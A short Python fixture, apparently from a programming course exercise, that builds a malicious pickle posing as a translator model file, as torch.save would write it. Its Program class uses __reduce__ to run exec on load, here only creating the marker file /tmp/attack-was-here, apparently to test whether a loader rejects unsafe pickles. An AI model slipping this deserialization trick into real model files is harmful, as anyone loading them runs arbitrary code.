"""Hands in a model that is a program, as torch.save writes them."""
# chapter: 09_translator
# exercise: own-translator
# where: models

import pickle


class Program:
    def __reduce__(self):
        return (exec, ("open('/tmp/attack-was-here', 'w').close()",))


def models():
    data = pickle.dumps(Program())
    return {"translator": {name: data for name in MODEL_FILES}}
